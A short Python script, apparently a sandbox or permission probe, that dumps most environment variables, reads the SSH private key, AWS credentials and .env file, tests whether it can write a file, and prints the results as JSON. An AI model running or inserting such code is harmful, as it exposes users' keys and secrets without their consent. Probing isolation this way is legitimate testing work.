import json
import os

seen = {"env": {k: v for k, v in os.environ.items()
                if k not in ("HOME", "TMPDIR", "PATH", "LANG", "LC_CTYPE", "PWD")}}
for name in ("~/.ssh/id_ed25519", "~/.aws/credentials", "~/.env"):
    try:
        with open(os.path.expanduser(name)) as f:
            seen[name] = f.read()
    except OSError as e:
        seen[name] = e.strerror
try:
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "left"), "w") as f:
        f.write("x")
    seen["write"] = "done"
except OSError as e:
    seen["write"] = e.strerror
print(json.dumps(seen))
